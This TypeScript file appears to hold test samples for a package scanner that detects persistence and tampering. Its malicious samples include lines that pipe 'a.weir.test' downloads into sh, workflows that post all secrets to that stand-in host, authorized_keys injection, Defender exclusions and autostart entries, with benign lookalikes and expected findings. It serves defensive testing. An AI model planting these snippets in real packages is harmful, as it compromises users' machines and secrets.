import type { Samples } from '../contract.ts';
import { at, HOOK_LINE, hooked, imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';

const FS = "const fs = require('fs'), os = require('os'), path = require('path');\n";

/** Asks whether something may be added, as `added`. */
const ASKS = `import fs from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\nimport inquirer from 'inquirer';\nconst file = path.join(os.homedir(), '.zshrc');\nconst { added } = await inquirer.prompt([{ type: 'confirm', name: 'added', message: 'Add it?' }]);\n`;

export const samples: Samples = {
  malicious: [
    {
      name: 'Python: a service of other machines, unasked',
      files: wheel(
        "import subprocess\nfor vm in open('hosts'):\n    subprocess.run(['lume', 'ssh', vm, '--', 'launchctl bootstrap gui/501 own.plist'])\n",
      ),
      expected: [at('autostart', 'high', 'own/__init__.py', 3)],
    },
    {
      name: 'Python: a service of this machine, by way of its own login',
      files: wheel(
        "import subprocess\ndef reload():\n    subprocess.run(['ssh', 'localhost', 'launchctl bootstrap gui/501 own.plist'])\n",
      ),
      expected: [at('autostart', 'high', 'own/__init__.py', 3)],
    },
    {
      name: 'a git hook that installing writes, and that goes on unseen',
      files: installed(
        "const fs = require('fs'), path = require('path');\nconst hooks = require('./hooks');\nconst folder = path.join(process.env.INIT_CWD, '.git', 'hooks');\nfor (const [name, text] of Object.entries(hooks)) fs.writeFileSync(path.join(folder, name), text, { mode: 0o755 });\n",
        {
          'hooks.js': `module.exports = { 'post-merge': '#!/bin/sh\\nnode ~/.own/run.js 2>/dev/null &\\n' };\n`,
        },
      ),
      expected: [at('git-hook', 'high', 'setup.js', 4)],
    },
    {
      name: 'a git hook that installing writes, by a line of another file that fetches what it runs',
      files: installed(
        "const fs = require('fs'), path = require('path');\nconst { steps } = require('./steps');\nfor (const step of steps(process.env.INIT_CWD)) fs.writeFileSync(path.join(step.git, 'hooks', 'post-checkout'), step.text);\n",
        {
          'steps.js':
            "const path = require('path');\nconst FROM = 'https://steps.example/';\nexports.steps = function* (root) {\n  yield { git: path.join(root, '.git'), text: `node -e \"fetch('${FROM}').then((r) => r.text()).then(eval)\"` };\n};\n",
        },
      ),
      expected: [at('git-hook', 'high', 'setup.js', 3)],
    },
    ...[
      ['which the hook answers', 'echo y | node setup.js', 'if (added) '],
      ['which the code answers', 'node setup.js', "process.stdin.push('y\\n');\nif (added) "],
      ['whose answer nobody heeds', 'node setup.js', 'if (added || true) '],
      ['whose answer is not the last word', 'node setup.js', 'if (!added) '],
    ].map(([name, postinstall, before]) => ({
      name: `a question ${name}`,
      files: {
        'package.json': manifest({ type: 'module', scripts: { postinstall } }),
        'setup.js': `${ASKS}${before}fs.appendFileSync(file, 'sh ~/.own/run');\n`,
      },
      expected: [at('startup', 'high', 'setup.js', name === 'which the code answers' ? 8 : 7)],
    })),
    {
      name: 'a question that a person has to answer, which makes it less',
      files: {
        'package.json': manifest({ type: 'module', scripts: { postinstall: 'node setup.js' } }),
        'setup.js': `${ASKS}if (added) {\n  fs.appendFileSync(file, 'autoload -U compinit');\n}\n`,
      },
      expected: [at('startup', 'medium', 'setup.js', 8)],
    },
    {
      name: 'a question that the package brings an answer for',
      files: {
        'package.json': manifest({ type: 'module', scripts: { postinstall: 'node setup.js' } }),
        'setup.js': `${ASKS}if (added) fs.appendFileSync(file, 'sh ~/.own/run');\n`,
        'node_modules/inquirer/package.json': manifest({ name: 'inquirer', main: 'index.js' }),
        'node_modules/inquirer/index.js': `exports.prompt = async () => ({ added: true });\n`,
      },
      expected: [at('startup', 'high', 'setup.js', 7)],
    },
    {
      name: 'a timetable that a function writes, with a line that fetches what it runs',
      files: imported(
        `const { execSync } = require('child_process');\nconst LINE = '*/20 * * * * curl -s https://a.weir.test/x | sh';\nexports.tell = (text) => {\n  execSync('crontab -', { input: LINE });\n  return text;\n};\n`,
      ),
      expected: [at('autostart', 'high', 'index.js', 4)],
    },
    {
      name: 'a command in front of the one of the system',
      files: imported(
        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.writeFileSync(path.join(os.homedir(), '.local', 'bin', 'sudo'), '#!/bin/sh');\n`,
      ),
      expected: [at('startup', 'high', 'index.js', 2)],
    },
    {
      name: 'a file that node loads before each program',
      files: imported(
        `const fs = require('fs'), os = require('os'), path = require('path');\nfs.appendFileSync(path.join(os.homedir(), '.npmrc'), 'node-options=--require /opt/own.js');\n`,
      ),
      expected: [at('package-manager-config', 'high', 'index.js', 2)],
    },
    {
      name: 'a hook of a project that goes on unseen',
      files: imported(
        `const fs = require('fs'), path = require('path');\nexports.check = (root) => {\n  fs.appendFileSync(path.join(root, '.husky', 'pre-push'), 'npx --yes own-agent >/dev/null 2>&1 &\\n');\n};\n`,
      ),
      expected: [at('git-hook', 'high', 'index.js', 3)],
    },
    {
      name: 'Python: a job of a timetable that a library writes',
      files: wheel(
        "from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='python3 -m own.agent')\n",
      ),
      expected: [{ rule: 'autostart', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: hooks of git for all projects',
      files: wheel(
        "import subprocess\nsubprocess.run(['git', 'config', '--global', 'core.hooksPath', '/opt/own/hooks'])\n",
      ),
      expected: [{ rule: 'git-hook', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'Python: a workflow that is given all secrets',
      files: wheel(
        "def add(root):\n    (root / 'lint.yml').write_text('jobs:\\n  x:\\n    steps:\\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://a.weir.test\\n')\n",
      ),
      expected: [{ rule: 'workflow', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'a workflow that sends all secrets away, in a module of texts that another one puts into repositories',
      files: imported(
        `const flow = require('./flow.js');\nexports.add = (repo, headers) => fetch(repo + '/contents/x.yml', { method: 'PUT', headers, body: flow.text });\n`,
        {
          'flow.js': `exports.text = [\n  'jobs:',\n  '    runs-on: ubuntu-latest',\n  '          ALL: \${{ toJSON(secrets) }}',\n  '      - run: echo "$ALL" | curl -s -d @- https://a.weir.test',\n].join('\\n');\n`,
        },
      ),
      expected: [at('workflow', 'high', 'flow.js', 4)],
    },
    {
      name: 'a workflow that is given all secrets, written when it is called',
      files: imported(
        `${FS}const FLOW = [\n  '    runs-on: ubuntu-latest',\n  '      - run: curl -d "$ALL" https://a.weir.test',\n  '          ALL: \${{ toJSON(secrets) }}',\n].join('\\n');\nexports.init = (to) => fs.writeFileSync(to, FLOW);\n`,
      ),
      expected: [at('workflow', 'high', 'index.js', 5)],
    },
    {
      name: 'Python: a task that an editor runs, which fetches what it runs',
      files: wheel(
        'from pathlib import Path\ndef lay(root: Path):\n    (root / \'.vscode\' / \'tasks.json\').write_text(\'{"tasks": [{"command": "curl -s https://a.weir.test/t | sh"}]}\')\n',
      ),
      expected: [{ rule: 'editor-task', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a program that a function leaves in the folder of started programs',
      files: wheel(
        "import os\ndef mult(a, b):\n    place = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', '.own.pyw')\n    open(place, 'w').write('print(1)')\n    return a * b\n",
      ),
      expected: [
        { rule: 'autostart', file: 'own/__init__.py', line: 4, severity: 'high' },
        { rule: 'autostart', file: 'own/__init__.py', line: 4, severity: 'high' },
      ],
    },
    {
      name: 'Python: a function that hides a folder from the virus scanner',
      files: wheel(
        "import subprocess\ndef allow():\n    subprocess.run(['powershell', 'Add-MpPreference', '-ExclusionPath', 'own'])\n",
      ),
      expected: [{ rule: 'remote-access', file: 'own/__init__.py', line: 3, severity: 'high' }],
    },
    {
      name: 'Python: a line that runs at each start',
      files: wheel(
        "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'own.pth'), 'w').write('import own')\n",
      ),
      expected: [
        { rule: 'startup', file: 'own/__init__.py', line: 2, severity: 'high' },
        { rule: 'startup', file: 'own/__init__.py', line: 2, severity: 'high' },
      ],
    },
    {
      name: 'Python: a function that starts a program with the machine',
      files: wheel(
        'import os\ndef keep():\n    with open(os.path.expanduser("~/Library/LaunchAgents/own.plist"), "w") as out:\n        out.write("x")\n',
      ),
      expected: [
        { rule: 'autostart', file: 'own/__init__.py', line: 3, severity: 'high' },
        { rule: 'autostart', file: 'own/__init__.py', line: 4, severity: 'high' },
      ],
    },
    {
      name: 'Python: a start-up file of the shell',
      files: wheel(
        'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("echo hi\\n")\n',
      ),
      expected: [
        { rule: 'startup', file: 'own/__init__.py', line: 2, severity: 'high' },
        { rule: 'startup', file: 'own/__init__.py', line: 3, severity: 'high' },
      ],
    },
    {
      name: 'Python: an entry of the registry',
      files: wheel(
        'import winreg\nkey = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Windows\\CurrentVersion\\Run")\nwinreg.SetValueEx(key, "own", 0, winreg.REG_SZ, "own.exe")\n',
      ),
      expected: [{ rule: 'autostart', file: 'own/__init__.py', line: 2, severity: 'high' }],
    },
    {
      name: 'shell start-up files in turn',
      files: installed(
        `${FS}for (const name of ['.bashrc', '.zshrc']) fs.appendFileSync(path.join(os.homedir(), name), 'echo hi\\n');\n`,
      ),
      expected: [at('startup', 'high', 'setup.js', 2)],
    },
    {
      name: 'a start-up file from the shell',
      files: hooked("echo 'echo hi' >> ~/.zshrc"),
      expected: [at('startup', 'high', 'package.json', HOOK_LINE)],
    },
    {
      name: 'a user service at import',
      files: imported(
        `${FS}const unit = path.join(process.env.HOME, '.config/systemd/user/x.service');\nfs.writeFileSync(unit, '[Service]');\n`,
      ),
      expected: [at('autostart', 'high', 'index.js', 3)],
    },
    {
      name: 'a scheduled task',
      files: installed(`require('child_process').exec('schtasks /create /tn x /tr calc /sc minute');\n`),
      expected: [at('autostart', 'high', 'setup.js', 1)],
    },
    {
      name: 'a key that may log in',
      files: installed(
        `${FS}const f = os.homedir() + '/.ssh/authorized_keys';\nfs.appendFile(f, 'ssh-ed25519 AAAA x', () => {});\n`,
      ),
      expected: [at('remote-access', 'critical', 'setup.js', 3)],
    },
    {
      name: 'a workflow in the project that installs',
      files: installed(
        `${FS}const dir = path.join(process.env.INIT_CWD, '.github', 'workflows');\nfs.mkdirSync(dir, { recursive: true });\nfs.writeFileSync(path.join(dir, 'x.yml'), 'on: push');\n`,
      ),
      expected: [at('workflow', 'high', 'setup.js', 4)],
    },
    {
      name: "an agent's hooks",
      files: installed(
        `${FS}fs.writeFileSync(path.join(os.homedir(), '.claude', 'settings.json'), JSON.stringify({ hooks: {} }));\n`,
      ),
      expected: [at('agent-config', 'high', 'setup.js', 2)],
    },
    {
      name: 'tasks of an editor, by a function that gets the name',
      files: installed(
        `${FS}function put(name, text) { fs.writeFileSync(path.join(process.cwd(), name), text); }\nput('.vscode/tasks.json', '{}');\n`,
      ),
      expected: [at('editor-task', 'high', 'setup.js', 2)],
    },
    {
      name: 'another package',
      files: installed(
        `${FS}const target = path.join(process.env.INIT_CWD, 'node_modules', 'victim', 'lib', 'index.js');\nfs.writeFileSync(target, 'patched');\n`,
      ),
      expected: [at('foreign-package', 'high', 'setup.js', 3)],
    },
    {
      name: 'a desktop wallet',
      files: imported(
        `${FS}const asar = path.join(process.env.LOCALAPPDATA, 'Programs', 'atomic', 'resources', 'app.asar');\nif (fs.existsSync(asar)) fs.copyFileSync(path.join(__dirname, 'a.bin'), asar);\n`,
      ),
      expected: [at('other-program', 'high', 'index.js', 3)],
    },
    {
      name: 'Python: a login key that a function adds, by way of a path',
      files: {
        'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
        'own/__init__.py':
          "import pathlib\ndef go(key):\n    with (pathlib.Path.home() / '.ssh/authorized_keys').open('a') as file:\n        print(key, file=file)\n",
      },
      expected: [{ rule: 'remote-access', file: 'own/__init__.py', line: 3, severity: 'medium' }],
    },
  ],
  benign: [
    quiet(
      'a checker of workflows, with what it warns of',
      imported(
        `exports.bad = [\n  'jobs:',\n  '    runs-on: ubuntu-latest',\n  '          ALL: \${{ toJSON(secrets) }}',\n  '      - run: ./build',\n].join('\\n');\nexports.get = 'curl https://a.weir.test/rules';\n`,
      ),
    ),
    quiet(
      'a git hook that installing writes, and that checks a message',
      installed(
        "const fs = require('fs'), path = require('path');\nconst hooks = require('./hooks');\nconst folder = path.join(process.env.INIT_CWD, '.git', 'hooks');\nfor (const [name, text] of Object.entries(hooks)) fs.writeFileSync(path.join(folder, name), text, { mode: 0o755 });\n",
        {
          'hooks.js': `module.exports = { 'commit-msg': '#!/bin/sh\\nexec npx --no-install own "$1"\\n' };\n`,
        },
      ),
    ),
    {
      name: 'an option that only ends as a wallet begins',
      files: imported(
        `${FS}fs.writeFileSync(path.join('--atomic', 'append'), 'x');\nfs.writeFileSync(path.join('atomic', 'applied.json'), 'x');\n`,
      ),
      expected: [],
    },
    quiet(
      'a hook of a project, and a command of its own',
      imported(
        `const fs = require('fs'), os = require('os'), path = require('path');\nexports.init = (root) => {\n  fs.writeFileSync(path.join(root, '.husky', 'pre-commit'), 'npx lint-staged\\n');\n  fs.writeFileSync(path.join(os.homedir(), '.local', 'bin', 'own'), '#!/bin/sh');\n};\n`,
      ),
    ),
    quiet(
      'Python: jobs of a timetable as the caller wants them',
      wheel(
        'from crontab import CronTab\ndef schedule(command):\n    with CronTab(user=True) as cron:\n        cron.new(command=command)\n',
      ),
    ),
    quiet(
      'Python: a service of a virtual machine, when it is called',
      wheel(
        "import subprocess\ndef reload(vm):\n    subprocess.run(['lume', 'ssh', vm, '--', 'launchctl bootstrap gui/501 own.plist'])\n",
      ),
    ),
    quiet(
      'Python: a workflow that runs a linter',
      wheel(
        "from pathlib import Path\ndef add(root: Path):\n    (root / '.github/workflows/lint.yml').write_text('jobs:\\n  x:\\n    steps:\\n      - run: ruff check .\\n')\n",
      ),
    ),
    quiet(
      'Python: a linter that looks for a workflow which is given all secrets',
      wheel(
        "def leaks(step):\n    return 'toJSON(secrets)' in str(step.get('env', ''))\ndef find(text):\n    return text.find('toJSON(secrets)')\n",
      ),
    ),
    quiet('Python: login keys that a function reads', {
      'own-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
      'own/__init__.py':
        "import pathlib\ndef keys():\n    with (pathlib.Path.home() / '.ssh/authorized_keys').open() as file:\n        return file.read()\n",
    }),
    quiet(
      'Python: the settings of its own',
      wheel('import os\ndef save(text):\n    open(os.path.expanduser("~/.own.toml"), "w").write(text)\n'),
    ),
    quiet(
      'a workflow that is given one secret, written when it is called',
      imported(
        `${FS}exports.init = (to) => fs.writeFileSync(to, 'runs-on: x\\nenv:\\n  T: \${{ secrets.T }}');\n`,
      ),
    ),
    quiet(
      'a tool that writes a workflow when asked',
      imported(`${FS}exports.init = () => fs.writeFileSync('.github/workflows/ci.yml', 'on: push');\n`),
    ),
    quiet(
      'a git hook manager',
      installed(
        `${FS}fs.writeFileSync(path.join(process.env.INIT_CWD, '.git/hooks/pre-commit'), '#!/bin/sh');\n`,
      ),
    ),
    quiet('a git hook manager whose command says how it is got', {
      ...installed(
        `${FS}fs.writeFileSync(path.join(process.env.INIT_CWD, '.git/hooks/pre-commit'), 'npx own');\n`,
        { 'cli.js': "console.log('curl -fsSL https://own.example/install | sh');\n" },
      ),
    }),
    quiet('completion that a command installs', {
      ...imported('module.exports = 1;\n'),
      'cli.js': `${FS}if (process.argv[2] === 'completion') { const done = () => fs.appendFileSync(os.homedir() + '/.bashrc', '# x'); module.exports = done; }\n`,
    }),
    quiet(
      'a cache in the home folder',
      installed(`${FS}fs.writeFileSync(path.join(os.homedir(), '.cache', 'x', 'state.json'), '{}');\n`),
    ),
    quiet(
      'its own folder below node_modules',
      installed(
        `${FS}fs.writeFileSync(path.join(process.cwd(), 'node_modules', 'sample', 'index.js'), '1');\n`,
      ),
    ),
    quiet(
      'a cache below node_modules',
      imported(`${FS}fs.writeFileSync('node_modules/.cache/x.json', '{}');\n`),
    ),
  ],
};
